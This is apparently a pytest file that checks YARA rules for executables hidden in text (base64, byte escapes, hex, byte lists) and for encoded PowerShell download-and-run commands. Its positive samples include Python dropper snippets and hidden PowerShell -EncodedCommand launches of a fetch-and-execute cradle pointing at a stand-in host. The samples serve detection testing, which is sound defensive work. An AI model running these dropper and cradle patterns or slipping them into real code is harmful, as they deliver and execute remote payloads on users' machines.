"""rules/yara/blobs/blobs.yar: executables carried inside text (base64, escapes, hex, byte lists).

The carried "executables" are the inert minimal images from yara_builders.
"""

from __future__ import annotations

import base64

import pytest
from yara_builders import b64, elf, params, pe, png

DROPPER_B64_PE = f"""import base64, os, tempfile
PAYLOAD = "{b64(pe())}"
path = os.path.join(tempfile.gettempdir(), "demo.bin")
open(path, "wb").write(base64.b64decode(PAYLOAD))
"""

DROPPER_B64_ELF = f'BLOB = "{b64(elf())}"\n'

# base64 of the PE at a shifted alignment: only the DOS-stub message is visible
DROPPER_B64_SHIFTED = f'BLOB = "{b64(b"xy" + pe())}"\n'

DROPPER_ESCAPED_ELF = f"open('/tmp/demo', 'wb').write({elf()[:32]!r})\n"
DROPPER_ESCAPED_PE = f"HEADER = {pe()[:16]!r}\n"
DROPPER_HEX_PE = f'HEADER = bytes.fromhex("{pe()[:16].hex()}")\n'
DROPPER_LIST_ELF = f"HEADER = bytes({list(elf()[:24])})\n"



def ps_encoded(script: str) -> str:
    """A Python line launching PowerShell with -EncodedCommand (base64 of UTF-16LE)."""
    enc = base64.b64encode(script.encode("utf-16le")).decode()
    return f"subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {enc}', shell=True)\n"


PS_DOWNLOAD_RUN = ('Invoke-WebRequest -Uri "https://example.invalid/tool.exe" -OutFile "$env:TEMP\\tool.exe"; '
                   'Start-Process "$env:TEMP\\tool.exe"')
PS_CRADLE = "iex (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')"
PS_ENV_REPORT = "Get-ChildItem Env: | Out-String | Set-Content env.txt"
PS_FETCH_JSON = 'Invoke-WebRequest -Uri "https://example.invalid/data.json" -OutFile data.json'

MAGIC_CHECKS = """ELF_MAGIC = b"\\x7fELF"
def kind(data):
    if data[:2] == b"MZ":
        return "pe"
    if data[:4] == b"\\x7fELF" and data[4] in (1, 2):
        return "elf"
"""

ICON_B64 = f'ICON = "{b64(png())}"\n'

# a relocatable object (e_type REL) kept as hex test data by a compiler binding
OBJECT_HEX = f'obj = bytes.fromhex("{(elf()[:16] + bytes([1, 0]) + elf()[18:40]).hex()}")\n'

POSITIVE = {
    "base64_encoded_executable": [
        ("pe", lambda: DROPPER_B64_PE),
        ("elf", lambda: DROPPER_B64_ELF),
        ("pe-shifted", lambda: DROPPER_B64_SHIFTED),
    ],
    "escaped_bytes_executable": [
        ("elf-escapes", lambda: DROPPER_ESCAPED_ELF),
        ("pe-escapes", lambda: DROPPER_ESCAPED_PE),
        ("pe-hex", lambda: DROPPER_HEX_PE),
        ("elf-byte-list", lambda: DROPPER_LIST_ELF),
    ],
    "powershell_encoded_download_execute": [
        ("download-start-process", lambda: ps_encoded(PS_DOWNLOAD_RUN)),
        ("webclient-cradle", lambda: ps_encoded(PS_CRADLE)),
    ],
}

BENIGN = {
    "base64_encoded_executable": [
        ("base64-icon", lambda: ICON_B64),
        ("pe-binary-itself", pe),
        ("magic-checks", lambda: MAGIC_CHECKS),
    ],
    "escaped_bytes_executable": [
        ("magic-checks", lambda: MAGIC_CHECKS),
        ("elf-binary-itself", elf),
        ("short-elf-prefix", lambda: "PREFIX = b'\\x7fELF\\x02\\x01'\n"),
        ("relocatable-object-hex", lambda: OBJECT_HEX),
    ],
    "powershell_encoded_download_execute": [
        ("encoded-env-report", lambda: ps_encoded(PS_ENV_REPORT)),
        ("encoded-download-no-run", lambda: ps_encoded(PS_FETCH_JSON)),
        ("plain-text-cradle-words", lambda: "# never run: Invoke-WebRequest ... | Invoke-Expression\n"),
    ],
}


@pytest.mark.parametrize(("rule", "build"), params(POSITIVE))
def test_fires(fired, rule, build):
    assert rule in fired(build())


@pytest.mark.parametrize(("rule", "build"), params(BENIGN))
def test_quiet(fired, rule, build):
    assert rule not in fired(build())
